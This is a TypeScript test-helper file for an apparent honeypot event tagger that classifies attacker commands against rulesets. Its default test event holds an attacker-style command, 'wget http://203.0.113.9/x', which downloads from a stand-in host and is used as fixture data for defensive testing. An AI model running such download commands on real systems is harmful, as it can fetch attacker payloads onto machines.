import { createEvent, type EventDescription } from '../../src/events/create-event.js'
import type { TaggerEvent } from '../../src/events/tagger-event.js'
import { type Geography, NO_GEOGRAPHY } from '../../src/geography/geography.js'
import { compileRuleset } from '../../src/rules/compile-ruleset.js'
import { EventFields } from '../../src/rules/event-fields.js'
import { Ruleset } from '../../src/rules/ruleset.js'
import { normaliseCommand } from '../../src/shell/normalise.js'
import { TEST_MALWARE } from '../../src/tagging/run-samples.js'
import type { TagContext } from '../../src/tagging/tagger.js'
import { type RuleParts, ruleSource } from './rule-text.js'

export const EMPTY_RULESET = new Ruleset([], 'enterprise-19.1')

/** An event of a test, a command unless it says otherwise. */
export function testEvent(description: Partial<EventDescription> = {}): TaggerEvent {
  return createEvent({
    sourceKind: 'command',
    payload: { command_text: 'wget http://203.0.113.9/x' },
    observedAt: new Date('2026-11-20T08:25:04Z'),
    sourceIp: '198.51.100.20',
    sessionId: 'a1b2c3d4e5f6',
    deckyId: 'decky-01',
    ...description,
  })
}

export function commandEvent(commandText: string, more: Partial<EventDescription> = {}): TaggerEvent {
  return testEvent({ payload: { command_text: commandText }, ...more })
}

export function fieldsOf(event: Pick<TaggerEvent, 'sourceKind' | 'payload'>): EventFields {
  return new EventFields(event, normaliseCommand)
}

export function testContext(
  event: TaggerEvent,
  ruleset: Ruleset = EMPTY_RULESET,
  signal: AbortSignal = new AbortController().signal,
  geography: Geography = NO_GEOGRAPHY,
): TagContext {
  return { ruleset, signal, fields: fieldsOf(event), geography, malware: TEST_MALWARE }
}

/** A ruleset of rules that must compile. */
export function rulesetOf(...rules: readonly RuleParts[]): Ruleset {
  const { ruleset, issues } = compileRuleset(rules.map((parts, index) => ruleSource({ id: `T${index}`, ...parts })))
  const errors = issues.filter((issue) => issue.severity === 'error')
  if (errors.length > 0) throw new Error(`the rules of this test do not compile: ${JSON.stringify(errors, null, 1)}`)
  return ruleset
}
